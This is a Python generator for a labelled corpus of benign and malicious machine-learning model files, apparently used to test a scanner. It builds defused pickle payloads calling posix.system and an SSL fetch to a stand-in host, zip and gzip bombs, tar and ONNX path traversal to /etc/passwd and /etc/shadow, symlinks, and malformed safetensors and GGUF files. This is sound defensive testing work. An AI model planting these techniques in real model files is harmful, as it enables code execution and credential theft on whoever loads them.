    w.close()
    data = path.read_bytes().replace(b"tokenizer.chat_templatX", b"tokenizer.chat_template")
    path.unlink()
    return data


def gguf_bytes(tmp: Path, name: str, template: str | None, *, break_offsets: bool = False) -> bytes:
    import gguf
    import numpy as np

    path = tmp / f"_gguf_{name}.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_block_count(1)
    if template is not None:
        w.add_chat_template(template)
    w.add_tensor("tok_embd.weight", np.ones((4, 8), dtype=np.float32))
    w.add_tensor("out.weight", np.zeros((8,), dtype=np.float16))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    data = path.read_bytes()
    path.unlink()
    if break_offsets:
        data = data[: len(data) - 40]  # tensor table now points past the end of the file
    return data


def onnx_model(external: str | None = None, domain: str = "") -> bytes:
    import onnx
    from onnx import TensorProto, helper

    weight = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    if external is not None:
        weight = onnx.TensorProto()
        weight.name = "w"
        weight.data_type = TensorProto.FLOAT
        weight.dims.extend([2])
        weight.data_location = TensorProto.EXTERNAL
        for k, v in (("location", external), ("offset", "0"), ("length", "8")):
            entry = weight.external_data.add()
            entry.key, entry.value = k, v
    node = helper.make_node("Add", ["x", "w"], ["y"], domain=domain)
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
        initializer=[weight],
    )
    opsets = [helper.make_opsetid("", 17)]
    if domain:
        opsets.append(helper.make_opsetid(domain, 1))
    model = helper.make_model(graph, opset_imports=opsets)
    return bytes(model.SerializeToString())


_TS_READER = """import torch


class Reader(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + torch.from_file("/nonexistent-glassbox", size=4)
"""


def torchscript_bytes(tmp: Path, *, reads_file: bool) -> bytes:
    """A real ``torch.jit.save`` archive; ``reads_file`` scripts a module calling from_file."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # torch.jit is deprecated, not gone
        return _torchscript_bytes(tmp, reads_file)


def _torchscript_bytes(tmp: Path, reads_file: bool) -> bytes:
    import importlib.util

    import torch

    if reads_file:
        src = tmp / "gbx_ts_reader.py"  # TorchScript compiles from source, so it needs a file
        src.write_text(_TS_READER)
        spec = importlib.util.spec_from_file_location("gbx_ts_reader", src)
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)  # our own generator code, not a model file
        scripted = torch.jit.script(module.Reader())
        src.unlink()
    else:
        net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
        scripted = torch.jit.script(net)
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    return buf.getvalue()


def onnx_local_function() -> bytes:
    from onnx import TensorProto, helper

    body = [helper.make_node("Add", ["a", "b"], ["c"])]
    func = helper.make_function(
        "pkg.local", "MyAdd", ["a", "b"], ["c"], body, [helper.make_opsetid("", 17)]
    )
    node = helper.make_node("MyAdd", ["x", "x"], ["y"], domain="pkg.local")
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
    )
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("pkg.local", 1)]
    return bytes(
        helper.make_model(graph, opset_imports=opsets, functions=[func]).SerializeToString()
    )


def safetensors_raw(
    header: dict[str, object] | str, data: bytes, *, claimed_len: int | None = None
) -> bytes:
    raw = header if isinstance(header, str) else json.dumps(header)
    hb = raw.encode()
    return struct.pack("<Q", claimed_len if claimed_len is not None else len(hb)) + hb + data


# ---------------------------------------------------------------- benign, from real libraries
def benign_samples(tmp: Path) -> list[tuple[str, str, bytes]]:
    """(name, source, bytes) written by the real libraries."""
    import joblib
    import numpy as np
    import torch
    from safetensors.numpy import save as st_save_np
    from safetensors.torch import save as st_save
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingClassifier,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.model_selection import GridSearchCV
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    out: list[tuple[str, str, bytes]] = []

    def torch_bytes(obj: object, **kw: object) -> bytes:
        b = io.BytesIO()
        torch.save(obj, b, **kw)  # type: ignore[arg-type]
        return b.getvalue()

    torch.manual_seed(0)
    lin = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    conv = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2))
    out.append(("torch-state-dict.pt", "torch.save", torch_bytes(lin.state_dict())))
    out.append(("pytorch_model.bin", "torch.save", torch_bytes(conv.state_dict())))
    out.append(
        (
            "torch-legacy.pt",
            "torch.save legacy",
            torch_bytes(lin.state_dict(), _use_new_zipfile_serialization=False),
        )
    )
    dtypes = {
        str(d): torch.ones(3, dtype=d)
        for d in (torch.float16, torch.bfloat16, torch.int8, torch.bool, torch.int64, torch.float64)
    }
    out.append(("torch-dtypes.pt", "torch.save", torch_bytes(dtypes)))
    opt = torch.optim.Adam(lin.parameters())
    lin(torch.ones(1, 4)).sum().backward()
    opt.step()
    out.append(
        (
            "optimizer.pt",
            "torch.save",
            torch_bytes(
                {
                    "model": lin.state_dict(),
                    "optimizer": opt.state_dict(),
                    "epoch": 3,
                    "name": "run",
                }
            ),
        )
    )
    out.append(
        ("torch-param.pt", "torch.save", torch_bytes({"p": torch.nn.Parameter(torch.ones(2))}))
    )
    out.append(("model.safetensors", "safetensors.torch", st_save(lin.state_dict())))
    out.append(
        (
            "np.safetensors",
            "safetensors.numpy",
            st_save_np({"a": np.arange(6, dtype=np.int32).reshape(2, 3)}),
        )
    )

    def np_bytes(fn: Callable[[io.BytesIO], None]) -> bytes:
        b = io.BytesIO()
        fn(b)
        return b.getvalue()

    out.append(
        (
            "array.npy",
            "numpy.save",
            np_bytes(lambda b: np.save(b, np.arange(100, dtype=np.float64))),
        )
    )
    out.append(
        (
            "arrays.npz",
            "numpy.savez",
            np_bytes(lambda b: np.savez(b, a=np.ones(3), b=np.zeros((2, 2), dtype=np.int16))),
        )
    )
    out.append(
        (
            "arrays-compressed.npz",
            "numpy.savez_compressed",
            np_bytes(lambda b: np.savez_compressed(b, a=np.ones(1000))),
        )
    )
    for proto in (2, 5):
        out.append(
            (
                f"numpy-pickle-p{proto}.pkl",
                "pickle.dumps",
                pickle.dumps({"x": np.arange(5), "s": np.float64(1.5)}, protocol=proto),
            )
        )
    for proto in range(0, 6):
        out.append(
            (
                f"plain-p{proto}.pkl",
                "pickle.dumps",
                pickle.dumps(
                    {
                        "a": [1, 2.5, "x", None, True],
                        "b": (b"raw", {1, 2}),
                        "c": collections.OrderedDict(z=1),
                    },
                    protocol=proto,
                ),
            )
        )

    rng = np.random.default_rng(0)
    texts = ["apple banana cherry", "banana cherry dates", "cherry dates eggs", "apple eggs"]
    x = rng.normal(size=(60, 4))
    y = (x[:, 0] > 0).astype(int)
    models = {
        "logreg": LogisticRegression().fit(x, y),
        "forest": RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y),
        "tree": DecisionTreeClassifier(random_state=0).fit(x, y),
        "pipeline": make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y),
        "knn": KNeighborsClassifier(n_neighbors=3).fit(x, y),
        "mlp": MLPClassifier(
            hidden_layer_sizes=(4,), solver="lbfgs", max_iter=2000, random_state=0
        ).fit(x, y),
        "gboost": GradientBoostingClassifier(n_estimators=3, random_state=0).fit(x, y),
        "hist-gboost": HistGradientBoostingClassifier(max_iter=3, random_state=0).fit(x, y),
        "grid-search": GridSearchCV(Ridge(), {"alpha": [0.5, 1.0]}, cv=2).fit(x, y),
        "tfidf": {
            "vectorizer": TfidfVectorizer().fit(texts),
            "X": TfidfVectorizer().fit_transform(texts),
        },
    }
    for name, model in models.items():
        p = tmp / f"_{name}.joblib"
        joblib.dump(model, p)
        out.append((f"sklearn-{name}.joblib", "joblib.dump", p.read_bytes()))
        p.unlink()
    p = tmp / "_c.joblib"
    joblib.dump(models["logreg"], p, compress=3)
    out.append(("sklearn-compressed.joblib", "joblib.dump compress=3", p.read_bytes()))
    joblib.dump(
        {"arrays": [np.ones(10), np.arange(7, dtype=np.int64)], "names": ["a"]},
        p,
        compress=("xz", 3),
    )
    out.append(("arrays-xz.joblib", "joblib.dump compress=xz", p.read_bytes()))
    p.unlink()
    out.append(("model.gguf", "gguf.GGUFWriter", gguf_bytes(tmp, "chatml", BENIGN_TEMPLATE)))
    out.append(("llama3.gguf", "gguf.GGUFWriter", gguf_bytes(tmp, "llama3", LLAMA3_TEMPLATE)))
    out.append(("zephyr.gguf", "gguf.GGUFWriter", gguf_bytes(tmp, "zephyr", ZEPHYR_TEMPLATE)))
    out.append(("model.onnx", "onnx.helper", onnx_model()))
    out.append(("local-function.onnx", "onnx.helper (model-local function)", onnx_local_function()))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        exported = io.BytesIO()
        torch.onnx.export(lin, (torch.ones(1, 4),), exported, dynamo=False)
    out.append(("torch-export.onnx", "torch.onnx.export", exported.getvalue()))
    out.append(
        (
            "external.onnx",
            "onnx.helper (external data beside it)",
            onnx_model(external="external.onnx.data"),
        )
    )
    out.append(("external.onnx.data", "raw weights", struct.pack("<2f", 1.0, 2.0)))
    out.append(("model.keras", "keras v3 layout", keras_zip(keras_dense_config())))
    out.append(
        (
            "config.json",
            "HF config",
            json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 64}).encode(),
        )
    )
    out.append(
        (
            "tokenizer_config.json",
            "HF tokenizer config",
            json.dumps({"chat_template": ZEPHYR_TEMPLATE, "bos_token": "<s>"}).encode(),
        )
    )
    out.append(("README.md", "text", b"# A model\n\nIt classifies things.\n"))
    out.append(("labels.txt", "text", b"cat\ndog\nbird\n"))
    out.append(("requirements.txt", "text", b"certifi>=2023\ncharset-normalizer\ntorch\n"))
    out.append(
        (
            "modeling_custom.py",
            "text",
            b"import torch\n\n\nclass Model(torch.nn.Module):\n    pass\n",
        )
    )
    return out


# ---------------------------------------------------------------- driver
def build(out: Path) -> list[Sample]:
    out.mkdir(parents=True, exist_ok=True)
    mal = out / "malicious"
    ben = out / "benign"
    mal.mkdir(exist_ok=True)
    ben.mkdir(exist_ok=True)
    samples: list[Sample] = []

    def put(
        folder: Path,
        name: str,
        data: bytes,
        malicious: bool,
        technique: str,
        container: str,
        source: str = "",
    ) -> None:
        (folder / name).write_bytes(data)
        samples.append(Sample(f"{folder.name}/{name}", malicious, technique, container, source))

    techniques = dict(technique_pickles())
    for technique, payload in techniques.items():
        put(mal, f"{technique}.pkl", payload, True, technique, "raw")
    for technique in MATRIX_TECHNIQUES:
        payload = techniques[technique]
        for container, wrap in CONTAINERS.items():
            if container == "raw":
                continue
            ext, data = wrap(payload)
            put(mal, f"{technique}--{container}.{ext}", data, True, technique, container)
    p = techniques["reduce-os-system-p2"]
    put(
        mal,
        "zip-local-central-mismatch.pt",
        zip_mismatched_local_name(p),
        True,
        "zip-local-central-mismatch",
        "torch-zip",
    )
    put(mal, "zip-bad-crc.pt", zip_bad_crc(p), True, "zip-bad-crc", "torch-zip")
    put(
        mal,
        "zip-encryption-flag.pt",
        zip_encrypted_flag(p),
        True,
        "zip-encryption-flag",
        "torch-zip",
    )
    put(mal, "zip-traversal.zip", zip_traversal(p), True, "zip-path-traversal", "zip")
    put(
        mal,
        "torch-tensor-view-out-of-bounds.pt",
        torch_zip(tensor_view(offset=1, size=200)),
        True,
        "torch-view-outside-storage",
        "torch-zip",
    )
    put(
        mal,
        "zip-duplicate-names.pt",
        zip_duplicate_names(p),
        True,
        "zip-duplicate-member",
        "torch-zip",
    )
    put(mal, "zip-bomb.zip", zip_bomb(), True, "zip-bomb", "zip")
    put(mal, "gzip-bomb.gz", gzip_bomb(), True, "gzip-bomb", "gzip")
    put(mal, "deep-nesting.zip", deep_nesting(p), True, "deep-nesting", "zip")
    put(
        mal,
        "tar-traversal.tar",
        tar_of({"../../evil.pkl": benign_pickle()}),
        True,
        "tar-path-traversal",
        "tar",
    )
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        info = tarfile.TarInfo("pickle")
        info.type = tarfile.SYMTYPE
        info.linkname = "/etc/passwd"
        t.addfile(info)
    put(mal, "tar-symlink.tar", buf.getvalue(), True, "tar-symlink-member", "tar")
    put(
        mal,
        "torch-legacy-tar.tar",
        tar_of(
            {
                "sys_info": benign_pickle(),
                "pickle": p,
                "storages": pickle.dumps(0, protocol=2),
                "tensors": pickle.dumps(0, protocol=2),
            }
        ),
        True,
        "torch-legacy-tar",
        "tar",
    )

    import joblib
    import numpy as np

    class _Payload:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            import posix

            return (posix.system, ("true",))  # written, never called

    jp = out / "_tmp.joblib"
    joblib.dump([np.zeros(1000), {"after_array": _Payload()}], jp)
    put(
        mal,
        "joblib-payload-after-array.joblib",
        jp.read_bytes(),
        True,
        "joblib-after-raw-array",
        "joblib",
    )
    joblib.dump(np.array([_Payload(), 1], dtype=object), jp)
    put(mal, "joblib-object-array.joblib", jp.read_bytes(), True, "joblib-object-array", "joblib")
    joblib.dump({"m": _Payload()}, jp, compress=3)
    put(mal, "joblib-compressed.joblib", jp.read_bytes(), True, "joblib-zlib", "joblib")
    joblib.dump({"m": _Payload()}, jp, compress=("xz", 3))
    put(mal, "joblib-xz.joblib", jp.read_bytes(), True, "joblib-xz", "joblib")
    jp.unlink()

    class _Exfil:
        def __reduce__(self) -> tuple[object, tuple[tuple[str, int]]]:
            import ssl

            return (ssl.get_server_certificate, (("glassbox.invalid", 443),))  # never called

    npy = io.BytesIO()
    np.save(npy, np.array([_Exfil()], dtype=object), allow_pickle=True)
    put(mal, "npy-dns-exfiltration.npy", npy.getvalue(), True, "npy-object-ssl-exfil", "npy")
    for name, cfg in {
        "keras-lambda": keras_lambda_config(),
        "keras-module-injection": keras_module_injection(),
        "keras-get-file": keras_get_file_gadget(),
    }.items():
        put(mal, f"{name}.keras", keras_zip(cfg), True, name, "keras-zip")
        put(mal, f"{name}-config.json", json.dumps(cfg).encode(), True, name, "json")
    put(
        mal,
        "keras2-lambda.json",
        json.dumps(keras2_lambda_json()).encode(),
        True,
        "keras2-lambda",
        "json",
    )
    for name, layer in KERAS_PATH_LAYERS.items():
        put(mal, f"{name}.keras", keras_zip(keras_layer_config(layer)), True, name, "keras-zip")
    lookup = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "lookup", "vocabulary": ["a", "b"]},
        "registered_name": None,
    }
    put(ben, "stringlookup.keras", keras_zip(keras_layer_config(lookup)), False, "benign", "keras")
    tmp = out / "_tmp"
    tmp.mkdir(exist_ok=True)
    for name, template in EVIL_TEMPLATES.items():
        put(mal, f"{name}.gguf", gguf_bytes(tmp, name, template), True, name, "gguf")
        put(
            mal,
            f"{name}-tokenizer_config.json",
            json.dumps({"chat_template": template}).encode(),
            True,
            name,
            "json",
        )
    put(
        mal,
        "gguf-tensor-out-of-bounds.gguf",
        gguf_bytes(tmp, "oob", BENIGN_TEMPLATE, break_offsets=True),
        True,
        "gguf-tensor-oob",
        "gguf",
    )
    put(
        mal,
        "gguf-huge-string.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62),
        True,
        "gguf-huge-length",
        "gguf",
    )
    put(
        mal,
        "onnx-external-traversal.onnx",
        onnx_model(external="../../etc/passwd"),
        True,
        "onnx-external-traversal",
        "onnx",
    )
    put(
        mal,
        "onnx-external-absolute.onnx",
        onnx_model(external="/etc/passwd"),
        True,
        "onnx-external-absolute",
        "onnx",
    )
    put(
        mal,
        "onnx-custom-domain.onnx",
        onnx_model(domain="evil.custom"),
        True,
        "onnx-custom-op-domain",
        "onnx",
    )
    put(
        mal,
        "onnx-in-zip.zip",
        plain_zip({"model.onnx": onnx_model(external="../../../etc/shadow")}),
        True,
        "onnx-external-traversal",
        "zip",
    )
    tensor = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    put(
        mal,
        "st-huge-header.safetensors",
        safetensors_raw({"a": tensor}, b"\x00" * 8, claimed_len=1 << 40),
        True,
        "safetensors-huge-header",
        "safetensors",
    )
    put(
        mal,
        "st-overlap.safetensors",
        safetensors_raw(
            {"a": tensor, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}},
            b"\x00" * 12,
        ),
        True,
        "safetensors-overlap",
        "safetensors",
    )
    put(
        mal,
        "st-out-of-bounds.safetensors",
        safetensors_raw(
            {"a": {"dtype": "F32", "shape": [1000], "data_offsets": [0, 4000]}}, b"\x00" * 8
        ),
        True,
        "safetensors-oob",
        "safetensors",
    )
    put(
        mal,
        "st-duplicate-key.safetensors",
        safetensors_raw(
            '{"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, '
            '"a": {"dtype": "F64", "shape": [1], "data_offsets": [0, 8]}}',
            b"\x00" * 8,
        ),
        True,
        "safetensors-duplicate-key",
        "safetensors",
    )
    put(
        mal,
        "st-bad-dtype.safetensors",
        safetensors_raw({"a": {"dtype": "OBJ", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8),
        True,
        "safetensors-bad-dtype",
        "safetensors",
    )

    put(
        mal,
        "torch-legacy-tar-storages-payload.tar",
        legacy_torch_tar(techniques["reduce-os-system-p2"]),
        True,
        "torch-legacy-tar-hidden-storage-pickle",
        "tar",
    )
    put(ben, "torch-legacy-format.tar", legacy_torch_tar(), False, "benign", "tar", "legacy layout")
    put(mal, "gguf-duplicate-key.gguf", gguf_duplicate_key(tmp), True, "gguf-duplicate-key", "gguf")
    h5_bad, h5_ok = keras_h5(keras2_lambda_json(), tmp), keras_h5(keras_dense_config(), tmp)
    if h5_bad is not None and h5_ok is not None:
        put(mal, "keras2-lambda.h5", h5_bad, True, "keras-h5-lambda", "hdf5")
        put(ben, "keras2.h5", h5_ok, False, "benign", "hdf5", "h5py (Keras 2 layout)")
    put(
        mal,
        "torchscript-from-file.pt",
        torchscript_bytes(tmp, reads_file=True),
        True,
        "torchscript-file-read",
        "torchscript-zip",
    )
    put(
        ben,
        "torchscript.pt",
        torchscript_bytes(tmp, reads_file=False),
        False,
        "benign",
        "pt",
        "torch.jit.save",
    )
    put(
        mal,
        "polyglot-pickle-then-keras-zip.keras",
        benign_pickle() + keras_zip(keras_lambda_config()),
        True,
        "polyglot-prefix-zip",
        "keras-zip",
    )
    hidden = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    put(
        mal,
        "st-hidden-bytes.safetensors",
        safetensors_raw(hidden, b"\x00" * 8 + techniques["reduce-os-system-p2"]),
        True,
        "safetensors-unindexed-bytes",
        "safetensors",
    )
    for name, source, data in benign_samples(tmp):
        put(ben, name, data, False, "benign", name.rsplit(".", 1)[-1], source)
    tmp.rmdir()
    (out / "corpus.json").write_text(json.dumps([asdict(s) for s in samples], indent=1))
    return samples


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "scan-corpus")
    result = build(target)
    print(f"{len(result)} samples ({sum(s.malicious for s in result)} malicious) in {target}")
